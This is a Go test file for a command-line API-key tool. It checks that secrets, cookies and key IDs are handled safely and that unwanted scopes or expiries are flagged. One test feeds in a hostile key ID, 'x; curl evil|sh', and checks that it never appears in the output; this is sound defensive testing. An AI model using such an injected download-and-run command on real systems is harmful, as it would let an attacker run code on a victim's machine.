package cmd_test

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"
)

// answering is a program that is signed in to a console which answers every
// create with 201 and a record, and lists nothing.
func answering(t *testing.T, name, record string) *program {
	t.Helper()
	_, p := newConsole(t, name, func(w http.ResponseWriter, r *http.Request, effect http.Handler) {
		answer := respond(201, `{"code":"OK","data":`+record+`}`)
		if r.Method == http.MethodGet {
			answer = respond(200, `{"code":"OK","data":[]}`)
		}
		answer(w, r, effect)
	})
	return p
}

func TestANameThatLooksLikeASecretIsNotDelivered(t *testing.T) {
	t.Parallel()
	const name = "mk_ci_pipeline_prod"
	p := answering(t, "huddle01", `{"id":"ak_1","name":"`+name+`","prefix":"mk_4929de1f"}`)
	q := answering(t, "huddle01", `{"id":"ak_1","name":"`+name+`","plaintext":"`+straySecret+`"}`)
	for _, format := range []string{"secret", "json", "table"} {
		r := p.with("KEYCTL_JOURNAL=local").run("create", "--name", name, "-o", format)
		r.is(t, format, 9, "ak_1.*exists", "keyctl recover [0-9a-f]{8} --raw --to KIND:PLACE.*--revoke. gives the key up")
		r.silent(t, format)
		r = p.with("KEYCTL_JOURNAL=none").run("create", "--name", name, "-o", format)
		r.is(t, format, 1, "ak_1.*exists.*so the key was ended again")
		r.silent(t, format)
		r = q.run("create", "--name", name, "-o", format)
		if r.is(t, format, 0); !strings.Contains(r.stdout, straySecret) {
			t.Errorf("%s: the secret is lost: %s", format, r.stdout)
		}
	}
}

func TestTheKeyIsNamedEvenWhenItsIDStandsElsewhere(t *testing.T) {
	t.Parallel()
	const id = "9f7b3a5c-0000-4000-8000-123456789abc"
	p := answering(t, "huddle01", `{"id":"`+id+`","key_id":"`+id+`","resource":"`+id+`"}`)
	p = p.with("KEYCTL_JOURNAL=local")
	p.run("create", "--name", "x").is(t, "create", 9, `the key "`+id+`" exists`, "recover [0-9a-f]{8} --revoke")
	if told := p.run("create", "--name", "x", "-o", "json", "-q").errorOf(t).Error; told.KeyID == nil || *told.KeyID != id {
		t.Errorf("the error is %+v", told)
	}
}

// A key that may do more than was asked for, or lives longer, is delivered, and
// is no success.
func TestAKeyThatIsOtherThanWishedIsDeliveredAndFails(t *testing.T) {
	t.Parallel()
	const secret = "rgpu_4929de1f505b514f84988e4992cd23da"
	record := func(scopes, expires string) string {
		return `{"id":"k1","name":"x","scopes":` + scopes + `,"expires_at":` + expires + `,"key":"` + secret + `"}`
	}
	for _, test := range []struct {
		record string
		code   int
		what   string
	}{
		{record(`{"inference":true}`, `"2099-01-31T00:00:00Z"`), 0, ""},
		{record(`{"inference":true}`, `"2099-01-31T01:00:00+01:00"`), 0, ""},
		{record(`{"all":true}`, `"2099-01-31T00:00:00Z"`), 1, "the scopes .*all.* instead of .*inference"},
		{record(`{"inference":true}`, `"2199-01-31T00:00:00Z"`), 1, "another expiry than it was asked for"},
		{record(`{"inference":true}`, `null`), 1, "no expiry that the console tells"},
	} {
		r := answering(t, "remotegpu", test.record).run("create", "--name", "x", "--scope", "inference", "--expires", "2099-01-31", "-o", "secret")
		if r.is(t, test.record, test.code, test.what); r.stdout != secret+"\n" {
			t.Errorf("%s: the secret is lost: %q", test.record, r.stdout)
		}
	}
}

// It is no id at all: nothing can be done with it.
func TestAHostileIDIsShownNowhere(t *testing.T) {
	t.Parallel()
	const id = "x; curl evil|sh"
	for _, record := range []string{`{"id":"` + id + `"}`, `{"id":"` + id + `","key":"` + strings.Replace(straySecret, "mk_", "rgpu_", 1) + `"}`} {
		p := answering(t, "remotegpu", record)
		command := p.command("keyctl", "create", "--name", "x", "--scope", "all", "-o", "json")
		if strings.Contains(record, "rgpu_") {
			command.Stdout = needs(t, "/dev/full")
		}
		r := p.finish(command)
		if told := r.errorOf(t).Error; told.KeyID != nil || told.Hint == nil || strings.Contains(r.stderr, "curl") {
			t.Errorf("the error is %s", r.stderr)
		}
	}
}

func TestACookieThatIsEchoedIsBlackedOut(t *testing.T) {
	t.Parallel()
	const value = "eyJhbGciOiJIUzI1NiJ9.4929de1f505b514f"
	for _, cookie := range []string{"access_token=" + value, `access_token="` + value + `"`, "a=b; access_token=" + value} {
		_, p := newConsole(t, "remotegpu", func(w http.ResponseWriter, r *http.Request, _ http.Handler) {
			_, after, _ := strings.Cut(r.Header.Get("Cookie"), "access_token=")
			w.WriteHeader(http.StatusUnauthorized)
			_ = json.NewEncoder(w).Encode(map[string]string{"message": "bad session " + after})
		})
		p = p.with("KEYCTL_API_KEY=cookie:" + cookie)
		for _, format := range []string{"table", "json"} {
			r := p.run("list", "-o", format, "--debug="+map[string]string{"table": "true", "json": "false"}[format])
			r.is(t, cookie, 3, `bad session .*\[redacted\]`)
			if strings.Contains(r.stderr, "4929de1f") {
				t.Errorf("%s is shown: %s", cookie, r.stderr)
			}
			if format == "json" {
				r.errorOf(t)
			}
		}
	}
}
